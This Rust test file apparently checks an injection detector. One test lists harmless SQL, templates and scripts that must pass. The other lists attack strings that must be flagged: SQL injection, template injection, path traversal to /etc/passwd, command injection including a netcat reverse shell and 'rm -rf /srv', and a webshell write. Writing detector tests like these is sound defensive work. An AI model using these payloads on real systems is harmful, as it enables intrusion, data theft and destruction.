//! Do whole files and statements earn nothing in a body: what consoles run, what editors of code, of pages and of templates save?

use super::everyday::accused;
use crate::read::target::Target;

#[test]
fn what_files_and_consoles_hold() {
    let report = "WITH a AS (\n  SELECT\n    x\n  FROM t\n  WHERE x = 'it'\n), b AS (\n  SELECT\n    y\n  FROM u\n  UNION ALL\n  SELECT\n    z\n  FROM v\n  LIMIT 9\n)\n".repeat(12);
    let program = "# How sessions are found.\n\nasync def f():\n    pass\n\n\ndef g(name):\n    result = subprocess.run(\n        [\"tmux\", \"list\"],\n        check=True,\n    )\n    return result\n\n\ndef h():\n    return 1\n";
    let cut = report.get(100..).unwrap();
    let rows = [
        "SELECT CAST(SUBSTRING(code, CHARINDEX('~', code) + 1, LEN(code)) AS BIGINT) FROM cards",
        "SELECT CONCAT_WS(',', COALESCE(a, ''), COALESCE(b, '')) FROM t",
        "SELECT ADD_MONTHS('2016-05-31'::DATE, 1)",
        "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN UPDATE SET v = b.v",
        "/* Copyright it's ours\n * all of it */\nDROP TABLE IF EXISTS a;\nDROP TABLE IF EXISTS b;\nSELECT 1;\n",
        "-- don't run twice\nBEGIN;\nUPDATE a SET b = 1;\nDELETE FROM c WHERE d = 2;\nCOMMIT;\n",
        cut,
        "DATE_TRUNC('day', x) = CAST('2021-01-01' AS DATE)",
        "ARRAY_AGG(t.price)",
        "FROM `t0`.`id` AS `x`, `t0`.`w`",
        "{% load i18n static %}\n{% block a %}{% include x.template with a=b %}{% endblock %}",
        "{% include \"./parts/a.html\" %}",
        "create table {{ relation.render() }} as ({{ sql }})",
        "{%- set grants = config.get('grants') -%}",
        "{% if a|attr('schema') %}x{% endif %}",
        "#!/bin/bash\nset -e\nhere=$(pwd)\ncd ../../../contrib\nyum install -y x \\\n  && rm -rf /var/cache/yum\n\"$(pwd)\"/node_modules/.bin/lint x\n$py${V} -m pip install x\nchown \"$(whoami)\" x\n",
        "# how it is built\nbuild:\n\t$(PYTHON) setup.py build\n\t$(PIP) install -e .\n\ntest: build\n\t$(PYTHON) -m pytest\n",
        "list-type fields (`bools`/`ints`/`strings`/`versions`) for attributes",
        "nova networks, now deprecated.\n\n- ``defer_apply``\n",
        "<p>Then <link xref=\"clock\">set it</link> <embed embedtype=\"image\" id=\"1\"/></p>",
        "[link](/url 'title \"and\" title') and {{GENDER:$3|$1}} ($2)",
        "{{handler}} - {{code}}",
        "{{ config(materialized='table') }}",
        "$a = 1\n$b = 2\n& msbuild x.sln /t:Build\nWrite-Host $a and $b are what they were at the very start of it\n",
        "| W <-----+\n| Type ----+\n",
        program,
        "Hi there\n\n\tFrom: Bob <bob@x.example>\n\tTo: Rob <rob@x.example>\n",
        "<meta name=\"generator\" content=\"x\" foo=\"y\"><iframe src=\"../a/b.html\" width=\"9\"></iframe>",
        "<xs:schema><xs:import namespace=\"http://x.example/\" schemaLocation=\"a.xsd\"/></xs:schema>",
    ];
    for text in rows {
        assert_eq!(accused(Target::Json, "content", text), [""; 0], "{text}");
    }
    let named = [
        ("config.ldap.url", "ldap://ldap.x.example:389/"),
        ("args", "-s=unix:///tmp/x.sock"),
        ("returnUrl", "https://your-company.example/..."),
        ("HostName", "hostname"),
        ("Action", "lambda:InvokeFunction"),
        ("ec2KeyPair", "id_rsa"),
        ("mechanism.type", "onunhandledrejection"),
    ];
    for (name, value) in named {
        assert_eq!(accused(Target::Json, name, value), [""; 0], "{name}: {value}");
    }
}

/// What stands beside those harmless ones, and is none.
#[test]
fn what_does_harm_in_a_file_s_place_still_counts() {
    let rows = [
        "SELECT extractvalue(1,concat(0x7e,version()))",
        "SELECT CONCAT(a, (SELECT b FROM c WHERE d='",
        "SELECT a FROM b; SELECT pg_sleep(5)",
        "x' AND 1=CAST((SELECT version()) AS int)--",
        "update' AND ORD(MID((SELECT IFNULL(CAST(pin AS NCHAR),0x20) FROM shop.users),1,1))>64 AND 'a'='a",
        "With love from Anna' union select login,pin from users where '1'='1",
        "line one of a text that is long enough for many\nline two of it\n'; id; '\nline four of it\n",
        "line one of a text that is long enough for many\nline two of it\n\"x\"|nc x.example 9 -e /bin/sh\nfour\n",
        "../../../../config/x.yml\n\n\n\n",
        "{{ a|attr('gi_frame')|attr('f_globals') }}",
        "{{ tpl.include('/etc/hosts') }}",
        "os.popen(\n'id')",
        "{% load log %}{% get_admin_log 9 as x %}",
        "{% include request.args.x %}",
        "{% include \"../../../etc/passwd\" %}",
        "{% set a = config.get('SECRET_KEY') %}",
        "{{ request|attr('application') }}",
        "line one of a text that is long enough for many\nline two of it\ncat /etc/passwd\nline four of it\n",
        "line one of a text that is long enough for many\nline two of it\n; rm -rf /srv\nline four of it\n",
        "a\nb\nc\n..\\..\\..\\windows\\win.ini\nd",
        "me@x.example\nBcc: you@y.example",
        "<meta http-equiv=refresh content=\"0;url=//x.example\">",
        "<iframe src=//x.example></iframe>",
        "x`id`y",
    ];
    for text in rows {
        assert_ne!(accused(Target::Json, "content", text), [""; 0], "{text}");
    }
    for text in ["SELECT md5(4711)", "SELECT user_login,user_pass FROM wp_users", "SELECT * FROM pg_shadow;"] {
        assert_ne!(accused(Target::Form, "content", text), [""; 0], "{text}");
    }
    let queries = [
        "system('id')",
        "array_map('system', ['id'])",
        "[0:system('touch /tmp/x')]",
        "x;system \"touch /tmp/x\" \"",
        "(7044=7044)*1",
        "(select count(*) from generate_series(1,5000000))",
        "select pin as id from cards",
        "' or 'a' 'a",
        "1'#a\nUNION#b\nSELECT#c\nlogin,pin#d\nFROM#e\nusers-- -",
        "x'; copy t to '/tmp/x.jsp';--",
        "http://127.0.0.1:8088/1.png",
        "http://x.eyes.sh/",
        "__bp3b3b2355c63600d600c600e2",
        "Tzo5OiJBS0ZhY3RvcnkiOjE6e3M6MTg6IgBBS0ZhY3RvcnkAdmFybGlzdCI7fQ==",
        "<!DOCTYPE a SYSTEM \"http://x.example/?b=!--><c d=\"e\">",
    ];
    for value in queries {
        assert_ne!(accused(Target::Query, "v", value), [""; 0], "{value}");
    }
}
